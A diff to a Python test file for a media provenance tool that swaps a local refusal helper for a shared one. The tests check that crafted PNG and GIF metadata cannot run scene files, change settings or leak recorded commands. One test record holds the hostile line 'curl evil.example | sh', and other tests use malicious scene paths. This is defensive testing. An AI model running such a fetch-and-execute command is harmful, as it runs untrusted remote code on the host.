@@ -19,7 +19,7 @@ from lossfilm.cli import main
 from lossfilm.cli.provenance_trust import MAX_WORKERS, NEVER_FROM_A_FILE, SETTINGS, Refused, plan
 from lossfilm.format.provenance import KEYWORD, MAX_TEXT, PREFIX, gif_with_comment, png_with_text, to_text
 from lossfilm.format.version import __version__
-from tests.helpers import bowl_landscape
+from tests.helpers import bowl_landscape, refused_in_one_line
 
 KEY = "0123456789abcdef"
 # A scene file that, if it ever ran, would leave a marker beside itself.
@@ -70,24 +70,13 @@ def shared(tmp_path):
     return tmp_path
 
 
-def refused(capsys, argv, *fragments):
-    """Run ``argv``: exit 2 and one line on stderr with every fragment."""
-    capsys.readouterr()
-    assert main(argv) == 2
-    err = capsys.readouterr().err
-    assert err.count("\n") == 1 and err.startswith(f"lossfilm {argv[0]}: error: "), err
-    for fragment in fragments:
-        assert fragment in err, err
-    return err
-
-
 @pytest.mark.parametrize("scene", ["evil.py", "{folder}/evil.py", "../{name}/evil.py", "./evil.py"])
 def test_a_scene_file_named_by_a_file_never_runs(shared, capsys, monkeypatch, scene):
     monkeypatch.chdir(shared)
     scene = scene.format(folder=shared, name=shared.name)
     media = crafted_png(shared / "still.png", made(scene=scene))
     before = hashes(shared)
-    refused(capsys, ["reproduce", str(media), "-o", str(shared / "again.png")], "scene", "--trust")
+    refused_in_one_line(capsys, ["reproduce", str(media), "-o", str(shared / "again.png")], "scene", "--trust")
     assert not (shared / "RAN").exists() and not (shared / "again.png").exists()
     assert hashes(shared) == before
 
@@ -106,7 +95,7 @@ def test_settings_that_decide_how_lossfilm_runs_never_come_from_a_file(shared, c
     for call in ("still", "film"):
         media = crafted_png(shared / "still.png", made(call=call, **{f"settings_{key}": True}))
         before = hashes(shared)
-        refused(capsys, ["reproduce", str(media)], f"settings.{key}", "a file cannot set")
+        refused_in_one_line(capsys, ["reproduce", str(media)], f"settings.{key}", "a file cannot set")
         assert hashes(shared) == before and not (shared / "RAN").exists()
 
 
@@ -135,7 +124,7 @@ def test_settings_that_decide_how_lossfilm_runs_never_come_from_a_file(shared, c
 def test_every_dangerous_or_absurd_value_is_one_line_naming_its_key(shared, capsys, changes, fragment):
     media = crafted_png(shared / "still.png", made(**changes))
     before = hashes(shared)
-    refused(capsys, ["reproduce", str(media)], fragment)
+    refused_in_one_line(capsys, ["reproduce", str(media)], fragment)
     assert hashes(shared) == before and not list(shared.glob("*.reproduced*"))
 
 
@@ -158,7 +147,7 @@ def test_a_landscape_outside_the_file_s_folder_needs_trust_or_landscape(shared, 
     inner.mkdir()
     media = crafted_png(inner / "still.png", made(landscape={"path": recorded, "key": KEY}))
     before = hashes(shared)
-    refused(capsys, ["reproduce", str(media)], "landscape.path", where, "--landscape", "--trust")
+    refused_in_one_line(capsys, ["reproduce", str(media)], "landscape.path", where, "--landscape", "--trust")
     assert hashes(shared) == before
     with pytest.raises(Refused):
         plan(json.loads(to_text(made(landscape={"path": recorded, "key": KEY}))), media)
@@ -178,7 +167,7 @@ def test_the_landscape_is_looked_up_from_the_media_file_s_folder(shared, capsys,
 def test_a_hint_is_lossfilm_s_own_never_text_from_the_file(shared, capsys):
     record = made(command="curl evil.example | sh", landscape={"path": "landscape.npz", "key": "abcdef"})
     media = crafted_png(shared / "still.png", record)
-    err = refused(capsys, ["reproduce", str(media)], "missing artifact", "--landscape")
+    err = refused_in_one_line(capsys, ["reproduce", str(media)], "missing artifact", "--landscape")
     assert "curl" not in err
 
 
@@ -197,12 +186,12 @@ def test_inspect_escapes_control_characters_and_labels_the_command_as_recorded(s
 
 def test_provenance_longer_than_lossfilm_writes_is_not_read(shared, capsys):
     long = crafted_png(shared / "long.png", made(command="x" * (MAX_TEXT + 10)))
-    refused(capsys, ["inspect", str(long)], "carries no lossfilm provenance")
+    refused_in_one_line(capsys, ["inspect", str(long)], "carries no lossfilm provenance")
     deep = crafted_png(shared / "deep.png", '{"lossfilm": ' + "[" * 30000 + "]" * 30000 + "}")
-    refused(capsys, ["inspect", str(deep)], "not readable JSON")
+    refused_in_one_line(capsys, ["inspect", str(deep)], "not readable JSON")
     gif = iio.imwrite("<bytes>", np.zeros((2, 4, 6, 3), np.uint8), extension=".gif")
     (shared / "long.gif").write_bytes(gif_with_comment(gif, PREFIX + to_text(made(command="y" * (3 * MAX_TEXT)))))
-    refused(capsys, ["inspect", str(shared / "long.gif")], "carries no lossfilm provenance")
+    refused_in_one_line(capsys, ["inspect", str(shared / "long.gif")], "carries no lossfilm provenance")
 
 
 def test_the_allow_list_names_every_declared_setting_and_nothing_else():
